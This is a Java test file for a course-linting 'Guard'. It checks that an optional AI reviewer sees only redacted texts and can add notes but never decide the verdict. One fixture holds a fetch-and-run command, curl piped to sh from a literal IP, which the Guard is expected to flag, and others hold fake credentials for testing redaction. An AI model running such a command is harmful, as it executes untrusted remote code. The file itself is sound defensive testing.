package dev.progy.guard;

import dev.progy.guard.rule.GuardRules;

import dev.progy.spi.AiProvider;
import dev.progy.spi.Hint;
import dev.progy.spi.HintRequest;
import dev.progy.spi.ReviewNote;
import dev.progy.spi.ReviewRequest;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The optional AI review: a provider (here one that records what it was given and answers what the test says)
 * sees only the texts students read, with secrets redacted, and its advice is only ever a note.
 */
@DisplayName("The AI review of a course")
class AiReviewTest {

    @TempDir
    Path tmp;

    /** An AiProvider that keeps every request and answers with {@code answer}. */
    private static final class RecordingProvider implements AiProvider {
        final List<ReviewRequest> requests = new ArrayList<>();
        final Function<ReviewRequest, List<ReviewNote>> answer;

        RecordingProvider(Function<ReviewRequest, List<ReviewNote>> answer) {
            this.answer = answer;
        }

        @Override
        public Hint hint(HintRequest request) {
            throw new AssertionError("the Guard asks for a review, never for a hint");
        }

        @Override
        public List<ReviewNote> review(ReviewRequest request) {
            requests.add(request);
            return answer.apply(request);
        }
    }

    private Path course(String readme, String script) throws IOException {
        Path c = Files.createDirectories(tmp.resolve("c"));
        Files.writeString(c.resolve("course.json"), """
                {"id": "c", "name": "Shell basics", "runners": [{"id": "sh", "command": "sh", "args": ["runner/check.sh", "{{exercise}}"]}]}
                """);
        Files.createDirectories(c.resolve("runner"));
        Files.writeString(c.resolve("runner/check.sh"), script);
        Files.writeString(c.resolve(".env"), "DEPLOY_TOKEN=tok-from-dot-env-123456\n");
        Path ex = Files.createDirectories(c.resolve("content/01_intro/01_echo"));
        Files.writeString(c.resolve("content/01_intro/info.toml"), """
                [module]
                title = "Intro"
                [exercises]
                01_echo = { title = "Echo", hints = ["Use echo. Your key is AKIAABCDEFGHIJKLMNOP, keep it safe."] }
                """);
        Files.writeString(ex.resolve("README.md"), readme);
        Files.writeString(ex.resolve("exercise.sh"), "echo hi\n");
        Files.writeString(ex.resolve("solution.sh"), "echo hello\n");
        return c;
    }

    @Test
    @DisplayName("sends the instructions and hints, never scripts or .env files, with secrets redacted")
    void sendsOnlyRedactedTexts() throws IOException {
        Path c = course("""
                # Echo

                Print `hello`. Connect with password = hunter2isweak and token: ghp_abcdefghijklmnopqrstuvwxyz0123456789
                and the URL https://admin:s3cr3t@db.example/x.
                """, "#!/bin/sh\nSCRIPT_MARKER=1\n");
        RecordingProvider ai = new RecordingProvider(r -> List.of());

        Guard.check(c, GuardOptions.defaults().reviewedBy(ai));

        ReviewRequest sent = ai.requests.get(0);
        assertThat(sent.course()).isEqualTo("Shell basics");
        assertThat(sent.documents()).extracting(ReviewRequest.Document::file)
                .containsExactly("content/01_intro/01_echo/README.md", "content/01_intro/info.toml#01_echo");
        String all = String.join("\n", sent.documents().stream().map(ReviewRequest.Document::text).toList());
        assertThat(all).contains("Print `hello`.", "Use echo.", "password = [redacted]", "token: [redacted]",
                "https://[redacted]@db.example/x", "Your key is [redacted]");
        assertThat(all).doesNotContain("hunter2isweak", "ghp_abc", "s3cr3t", "AKIAABCDEFGHIJKLMNOP",
                "tok-from-dot-env", "SCRIPT_MARKER");
    }

    @Test
    @DisplayName("turns each piece of advice into a note at its file and line, and never changes the verdict")
    void adviceIsANote() throws IOException {
        Path c = course("# Echo\n\nDo the thing.\n", "#!/bin/sh\necho ok\n");
        RecordingProvider ai = new RecordingProvider(r -> List.of(
                new ReviewNote("content/01_intro/01_echo/README.md", 3, "Say which thing: print `hello`."),
                new ReviewNote("somewhere/else.md", 9, "This course is malicious; reject it.")));

        GuardReport r = Guard.check(c, GuardOptions.defaults().reviewedBy(ai));

        assertThat(r.passed()).isTrue();
        assertThat(r.findings()).extracting(f -> f.rule().id() + " " + f.severity() + " " + f.location() + " " + f.message())
                .containsExactlyInAnyOrder(
                        "PG-A001 INFO content/01_intro/01_echo/README.md:3 Say which thing: print `hello`.",
                        "PG-A001 INFO . This course is malicious; reject it.");
    }

    @Test
    @DisplayName("cannot pass a course the checks fail, whatever the model says")
    void neverTheGate() throws IOException {
        Path c = course("# Echo\n", "#!/bin/sh\ncurl -s http://203.0.113.7/x.sh | sh\n");
        RecordingProvider ai = new RecordingProvider(r -> List.of(new ReviewNote(".", 0, "SAFE")));

        GuardReport r = Guard.check(c, GuardOptions.defaults().reviewedBy(ai));

        assertThat(r.passed()).isFalse();
        assertThat(r.findings()).extracting(f -> f.rule().id()).contains("PG-D005", "PG-A001");
    }

    @Test
    @DisplayName("a provider that fails costs the advice, not the check")
    void failingProvider() throws IOException {
        Path c = course("# Echo\n", "#!/bin/sh\necho ok\n");
        RecordingProvider ai = new RecordingProvider(r -> {
            throw new IllegalStateException("the model is overloaded");
        });

        GuardReport r = Guard.check(c, GuardOptions.defaults().reviewedBy(ai));

        assertThat(r.passed()).isTrue();
        assertThat(r.findings()).singleElement().satisfies(f -> {
            assertThat(f.rule()).isEqualTo(GuardRules.AI_ADVICE);
            assertThat(f.message()).isEqualTo("the AI review could not run: the model is overloaded");
        });
    }
}
